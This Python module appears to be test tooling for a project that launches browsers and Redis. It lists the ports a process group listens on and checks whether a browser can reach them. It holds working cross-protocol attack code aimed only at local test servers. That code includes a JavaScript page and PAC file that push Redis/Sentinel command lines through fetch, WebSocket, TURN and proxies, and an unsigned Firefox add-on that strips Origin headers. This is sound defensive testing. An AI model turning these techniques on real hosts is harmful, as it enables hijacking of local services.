"""What a herd listens on, and the ways by which a client has a browser connect there with bytes of its own.

Whatever is asked for by a proxy is at 224.17.17.TYPE, with the listener's port as its own: a PAC file and an
add-on know the proxy by that. Without the proxy no connection can be made to such an address. Neither has a
zero byte, at which Redis ends a line.
"""

import asyncio
import base64
import io
import itertools
import json
import socket
import socketserver
import threading
import zipfile
from collections.abc import AsyncIterator, Iterator, Mapping, Sequence
from contextlib import asynccontextmanager, contextmanager, suppress
from dataclasses import dataclass
from enum import StrEnum
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Self
from urllib.parse import urlsplit

import psutil

from herds import DEADLINE, Herd
from processes import command_of, family, name_of
from remuda.fleet.relay import Address
from remuda.fleet.websocket import WebSocket
from waiting import eventually

CANARY = "remuda:reached"
MASTER = "reached"
LINES = f"\r\nAPPEND {CANARY} x\r\nSENTINEL MONITOR {MASTER} 127.0.0.1 6379 1\r\n"
"""What a Redis or a Sentinel does if it believes what connects, whatever stands before it. The herd itself
never appends to a key."""
PATIENCE_MS = 3000
"""So long a way may take. A port that drops what comes from elsewhere does not say so."""

PROXIES = ("socks4", "socks", "http", "https")
"""Their types in an add-on; the TYPE of the URL counts them from 1."""
SIGNS = {
    "fetch": b"GET /status ",
    "post": b"POST /post ",
    "driver": b"?by=driver ",
    "websocket": b"GET /websocket ",
    "turn": b"\x21\x12\xa4\x42",
    "socks4": b"\x04\x01",
    "socks": b"\x05",
    "http": b" http://224.17.17.",
    "https": b"\x16\x03",
}
"""By which a listener knows the ways."""


class Kind(StrEnum):
    """What listens, as far as it answers differently."""

    FRONT_DOOR = "front door"
    INTERNAL = "internal"
    REDIS = "redis"
    SENTINEL = "sentinel"
    SCREEN = "screen"
    DRIVER = "driver"
    BROWSER = "browser"
    PLAYWRIGHT = "playwright"


@dataclass(frozen=True)
class Listener:
    """A TCP port of this machine, or the path of a Unix socket; that of an abstract one begins with an @."""

    kind: Kind
    port: int = 0
    path: str = ""

    def __str__(self) -> str:
        return f"{self.kind} at {self.port or self.path}"


def listeners_in(herd: Herd) -> list[Listener]:
    """Every socket to which something can be sent by its port or its name, of every process of the herd."""
    owners = {}
    for process in {*herd.processes(), *family(psutil.Process(herd.process.pid))}:
        for inode in _sockets_of(process.pid):
            owners[inode] = process
    door = urlsplit(herd.url).port
    found = set()
    for table in ("tcp", "tcp6"):
        for row in _rows(table):
            if row[3] == "0A" and (owner := owners.get(row[9])):
                port = int(row[1].rpartition(":")[2], 16)
                found.add(Listener(Kind.FRONT_DOOR if port == door else _kind_of(owner), port))
    for row in _rows("unix"):
        # Flags and type: it takes connections, or datagrams.
        if len(row) > 7 and (int(row[3], 16) & 0x10000 or row[4] == "0002") and (owner := owners.get(row[6])):
            found.add(Listener(_kind_of(owner), path=row[7]))
    return sorted(found, key=str)


def _rows(table: str) -> Iterator[list[str]]:
    for line in Path(f"/proc/net/{table}").read_text().splitlines()[1:]:
        yield line.split(maxsplit=7) if table == "unix" else line.split()


def _sockets_of(pid: int) -> Iterator[str]:
    with suppress(OSError):
        for descriptor in Path(f"/proc/{pid}/fd").iterdir():
            with suppress(OSError):
                kind, _, inode = str(descriptor.readlink()).partition(":")
                if kind == "socket":
                    yield inode[1:-1]


def _kind_of(process: psutil.Process) -> Kind:
    name, command = name_of(process), " ".join(command_of(process))
    for kind, is_it in (
        (Kind.REDIS, name.endswith("-server")),
        (Kind.SCREEN, name == "Xvfb"),
        (Kind.DRIVER, name.startswith(("chromedriver", "geckodriver", "WebKitWebDriv"))),
        (Kind.PLAYWRIGHT, "launch-server" in command or "run-server" in command),
        (Kind.INTERNAL, " -m remuda." in command),
        (Kind.BROWSER, "firefox" in command or "chrom" in command),
    ):
        if is_it:
            return kind
    raise AssertionError(f"it is not known what {name} listens for: {command}")


# What listens beside a herd, to see that the ways lead there


class Recorder:
    """Listens, says nothing, and keeps what it hears."""

    def __init__(self) -> None:
        self.port = 0
        self.heard: list[bytearray] = []
        """What came over each connection."""

    def hear(self, connection: socket.socket) -> None:
        said = bytearray()
        self.heard.append(said)
        connection.settimeout(PATIENCE_MS / 1000)
        with suppress(OSError):
            while part := connection.recv(1 << 16):
                said += part

    async def hears(self, *ways: str) -> None:
        """Waits until something has come by all of these ways."""

        def lacks() -> list[str]:
            return [way for way in ways if not any(SIGNS[way] in said for said in self.heard)]

        try:
            await eventually(lambda: not lacks(), DEADLINE)
        except AssertionError:
            raise AssertionError(f"nothing came by {lacks()}") from None


@contextmanager
def recording(path: str = "") -> Iterator[Recorder]:
    """A recorder at a port, or at a Unix socket that all may connect to."""
    recorder = Recorder()

    class Handler(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            recorder.hear(self.request)

    class Tcp(socketserver.ThreadingTCPServer):
        request_queue_size = 100
        daemon_threads = True

    class Unix(socketserver.ThreadingUnixStreamServer):
        daemon_threads = True

    with Unix(path, Handler) if path else Tcp(("127.0.0.1", 0), Handler) as server:
        if path:
            Path(path).chmod(0o777)
        else:
            recorder.port = server.socket.getsockname()[1]
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield recorder
        server.shutdown()
    if path:
        Path(path).unlink()


class Site:
    """A site of this machine that is none of the herd's: a page, a PAC file, and a place to report to."""

    def __init__(self, url: str) -> None:
        self.url = url
        self.pac = f"{url}pac"
        self.told: list[Any] = []


PAC = r"""
function FindProxyForURL(url, host) {
  var asked = /^http:\/\/224\.17\.17\.(\d):(\d+)\//.exec(url);
  var types = ["SOCKS", "SOCKS5", "PROXY", "HTTPS"];
  return asked ? types[asked[1] - 1] + " 127.0.0.1:" + asked[2] : "DIRECT";
}
"""


@contextmanager
def hostile_site() -> Iterator[Site]:
    """The site, while it is served."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            is_pac = self.path == "/pac"
            kind = "application/x-ns-proxy-autoconfig" if is_pac else "text/html"
            self._answer(kind, PAC if is_pac else "<title>hostile</title>")

        def do_POST(self) -> None:
            site.told.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self._answer("text/plain", "")

        def _answer(self, kind: str, text: str) -> None:
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(text)))
            self.end_headers()
            self.wfile.write(text.encode())

        def log_message(self, *_: Any) -> None: ...

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        site = Site(f"http://127.0.0.1:{server.server_address[1]}/")
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield site
        server.shutdown()


# The ways

PAGE = """
const [ports, few, lines, patience, done] = arguments;
const told = [];
const limit = () => ({signal: AbortSignal.timeout(patience)});
const wait = (begin) => new Promise((resolve) => { begin(resolve); setTimeout(resolve, patience); });
const attacks = ports.map(async (port) => {
  const url = `//127.0.0.1:${port}`;
  const read = fetch(`http:${url}/status`, limit()).then((answer) => told.push([port, answer.status]));
  const post = fetch(`http:${url}/post`, {method: "POST", mode: "no-cors", body: lines, ...limit()});
  const socket = wait((resolve) => {
    const opened = new WebSocket(`ws:${url}/websocket`);
    opened.onopen = () => told.push([port, "websocket"]);
    opened.onclose = resolve;
  });
  await Promise.allSettled([read, post, socket]);
});
const slow = few.map(async (port) => {
  const proxied = [1, 2, 3, 4].map((type) =>
    fetch(`http://224.17.17.${type}:${port}/`, {method: "POST", mode: "no-cors", body: lines, ...limit()}));
  const turn = wait(async (resolve) => {
    const relay = {urls: `turn:127.0.0.1:${port}?transport=tcp`, username: lines, credential: lines};
    const peer = new RTCPeerConnection({iceServers: [relay], iceTransportPolicy: "relay"});
    peer.createDataChannel("x");
    peer.onicegatheringstatechange = () => peer.iceGatheringState === "complete" && resolve();
    await peer.setLocalDescription(await peer.createOffer());
  });
  await Promise.allSettled([...proxied, turn]);
});
Promise.all([...attacks, ...slow]).then(() => done(told));
"""
"""A page that a PAC file sets proxies for. Its result is what it could read, and what WebSockets opened."""

_BACKGROUND = r"""
const [ports, paths, types, lines, patience, site] = CONFIG;
const common = {port: 20560, username: lines, password: lines, proxyDNS: false, failoverTimeout: 1};
const proxyFor = (url) => {
  const asked = /^http:\/\/224\.17\.(17|18)\.(\d+):(\d+)\//.exec(url);
  if (!asked) return {type: "direct"};
  const path = `file://${paths[asked[2] - 1]}`;
  if (asked[1] === "18") return {...common, type: types[asked[3] - 1000], host: path};
  const type = types[asked[2] - 1];
  const extra = type.startsWith("socks") ? common : {proxyAuthorizationHeader: lines.trim()};
  return {...extra, type, host: "127.0.0.1", port: Number(asked[3])};
};
browser.proxy.onRequest.addListener(({url}) => proxyFor(url), {urls: ["<all_urls>"]});
// Then it does not come from a page, for all that anybody can see.
const marks = /^(origin|sec-fetch-.*)$/i;
browser.webRequest.onBeforeSendHeaders.addListener(
  ({requestHeaders}) => ({requestHeaders: requestHeaders.filter(({name}) => !marks.test(name))}),
  {urls: ["<all_urls>"]}, ["blocking", "requestHeaders"]);
const told = [];
const ask = (url) => fetch(url, {signal: AbortSignal.timeout(patience)});
const direct = ports.map((port) =>
  ask(`http://127.0.0.1:${port}/status`).then((answer) => told.push([port, answer.status])));
const proxied = ports.flatMap((port) => types.map((_, type) => ask(`http://224.17.17.${type + 1}:${port}/`)));
// Two of the types know Unix sockets.
const named = paths.flatMap((_, path) =>
  [1000, 1001].map((type) => ask(`http://224.17.18.${path + 1}:${type}/`)));
Promise.allSettled([...direct, ...proxied, ...named])
  .then(() => fetch(site, {method: "POST", body: JSON.stringify(told)}));
"""


def add_on(ports: Sequence[int], paths: Sequence[str], site: Site) -> str:
    """A temporary, unsigned add-on of a Firefox that connects to all of them as soon as it is installed."""
    config = json.dumps([ports, paths, PROXIES, LINES, PATIENCE_MS, site.url])
    manifest = {
        "manifest_version": 2,
        "name": "reach",
        "version": "1",
        "permissions": ["proxy", "webRequest", "webRequestBlocking", "<all_urls>"],
        "background": {"scripts": ["background.js"]},
        "browser_specific_settings": {"gecko": {"id": "reach@example.com"}},
    }
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("manifest.json", json.dumps(manifest))
        archive.writestr("background.js", f"const CONFIG = {config};\n{_BACKGROUND}")
    return base64.b64encode(packed.getvalue()).decode()


class Remote:
    """A connection to a browser that is told what to do: over DevTools, or over WebDriver BiDi."""

    def __init__(self, socket: WebSocket) -> None:
        self._socket = socket
        self._numbers = itertools.count(1)
        self._answers: dict[int, asyncio.Future[dict[str, Any]]] = {}

    @classmethod
    @asynccontextmanager
    async def open(cls, url: str, headers: Mapping[str, str]) -> AsyncIterator[Self]:
        """One to this WebSocket of a herd's."""
        parts = urlsplit(url)
        address = Address(str(parts.hostname), parts.port or 0)
        target = f"{parts.path}?{parts.query}" if parts.query else parts.path
        remote = cls(await WebSocket.open(address, target, headers=headers, timeout=DEADLINE))
        listening = asyncio.create_task(remote._listen(), name="listen to a browser")
        try:
            yield remote
        finally:
            listening.cancel()
            remote._socket.close()

    async def _listen(self) -> None:
        async for text in self._socket:
            said = json.loads(text)
            answer = self._answers.pop(said.get("id"), None)
            if answer is not None and not answer.done():  # Its caller may have given up.
                answer.set_result(said.get("result", {}))

    async def call(self, method: str, *, session: str = "", **params: Any) -> dict[str, Any]:
        """The result of a command; empty if it is refused."""
        number = next(self._numbers)
        self._answers[number] = asyncio.get_running_loop().create_future()
        order = {"id": number, "method": method, "params": params}
        self._socket.send(json.dumps({**order, "sessionId": session} if session else order))
        return await asyncio.wait_for(self._answers[number], DEADLINE)
